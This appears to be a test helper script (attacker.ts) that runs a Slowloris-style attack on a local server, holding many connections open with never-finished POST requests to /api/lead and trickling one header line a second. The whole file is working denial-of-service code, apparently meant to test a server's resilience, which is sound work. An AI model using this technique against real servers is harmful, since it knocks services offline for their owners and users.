/**
 * Opens many connections whose request never ends: one header line a second on each, and a new connection for each that
 * the server closes. Usage: attacker.ts PORT COUNT. Tells its parent when all are open.
 */
import { connect } from 'node:net';

const [, , port = '0', count = '0'] = process.argv;
let opened = 0;

function open(): void {
  const socket = connect(Number(port), '127.0.0.1', () => {
    socket.write('POST /api/lead HTTP/1.1\r\nHost: x\r\n');
    opened += 1;
    if (opened === Number(count)) process.send?.('open');
  });
  const line = setInterval(() => socket.write('X-Slow: a\r\n'), 1000);
  socket
    .resume()
    .on('error', () => {})
    .on('close', () => {
      clearInterval(line);
      setTimeout(open, 100);
    });
}

// In waves that fit the backlog of the listening socket.
for (let index = 0; index < Number(count); index += 1) setTimeout(open, Math.floor(index / 100) * 20);
